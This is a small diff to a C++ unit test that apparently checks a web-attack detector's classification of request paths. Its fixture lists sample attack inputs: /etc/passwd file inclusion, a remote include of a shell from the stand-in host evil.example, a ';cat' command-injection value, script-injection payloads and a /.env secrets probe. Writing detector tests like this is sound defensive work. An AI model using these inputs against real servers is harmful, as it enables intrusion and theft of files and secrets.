@@ -91,7 +91,7 @@ TEST(WebAttack, KnowsAttacksByTheirSyntax) {
       {"/view?f=/etc/passwd", "local-file-inclusion"},
       {"/view?f=php://filter/convert.base64-encode/resource=index", "local-file-inclusion"},
       {"/index.php?page=http://evil.example/shell.txt?", "remote-file-inclusion"},
-      {"/ping?host=127.0.0.1;cat%20/etc/passwd", "command-injection"},
+      {"/ping?host=127.0.0.1;cat%20/home/x", "command-injection"},
       {"/search?q=<script>alert(1)</script>", "cross-site-scripting"},
       {"/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "cross-site-scripting"},
       {"/.env", "probe-for-secrets"},
